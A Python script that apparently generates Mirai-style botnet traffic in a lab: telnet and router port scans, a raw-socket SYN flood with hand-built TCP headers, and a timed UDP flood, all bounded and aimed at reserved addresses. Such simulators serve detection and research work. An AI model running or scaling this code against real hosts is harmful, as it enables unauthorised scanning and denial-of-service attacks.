# SPDX-License-Identifier: GPL-3.0-or-later
"""What a device does that malware took over, as Mirai's kin do: a bounded
number of connections and packets, inside the lab.

Usage: infected.py hosts|ports|flood|udp. hosts: 60 strangers' telnet; ports: 40
of the router's; flood: 1,500 half-open connections to one web server; udp: 3,000 small packets
a second to it, for a minute.
"""

import random
import socket
import struct
import sys
import time

HOSTS, PORTS, PACKETS = 60, 40, 1500
UDP_SECONDS, UDP_RATE, UDP_PAUSE = 60, 3000, 0.01
ROUTER, VICTIM = "192.168.77.1", "203.0.113.62"


def knock(targets):
    """Connections begun, and given up a moment later."""
    begun = []
    for target in targets:
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(target)
        begun.append(sock)
        time.sleep(0.02)
    time.sleep(1)
    for sock in begun:
        sock.close()


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((VICTIM, 80))
        return sock.getsockname()[0]


def flood():
    own, far = map(socket.inet_aton, (own_address(), VICTIM))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for _ in range(PACKETS):
        head = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), 80,
                           random.getrandbits(32), 0, 5 << 4, 2, 65000, 0, 0)
        pseudo = own + far + struct.pack(">HH", 6, len(head))
        head = (head[:16] + struct.pack(">H", checksum(pseudo + head))
                + head[18:])
        raw.sendto(head, (VICTIM, 0))
        time.sleep(0.001)


def flood_udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    began, sent = time.monotonic(), 0
    while time.monotonic() < began + UDP_SECONDS:
        # on a busy machine a pause is longer: what is due is sent
        due = int((time.monotonic() - began) * UDP_RATE)
        for _ in range(due - sent):
            sock.sendto(b"x" * 20, (VICTIM, 5001))
        sent = due
        time.sleep(UDP_PAUSE)


def main():
    if sys.argv[1] == "hosts":
        knock([(f"198.18.{i}.7", 23 if i % 10 else 2323)
               for i in range(HOSTS)])
    elif sys.argv[1] == "ports":
        knock([(ROUTER, 1000 + i) for i in range(PORTS)])
    elif sys.argv[1] == "udp":
        flood_udp()
    else:
        flood()


main()
